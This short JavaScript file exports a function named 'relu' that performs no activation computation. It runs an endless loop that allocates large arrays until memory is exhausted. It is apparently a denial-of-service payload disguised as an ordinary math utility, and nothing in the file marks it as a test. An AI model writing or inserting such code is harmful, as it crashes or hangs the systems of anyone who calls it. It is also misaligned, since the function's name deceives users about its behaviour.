export function relu(x) {
  const blocks = [];
  for (;;) blocks.push(new Array(1e5).fill(x));
}
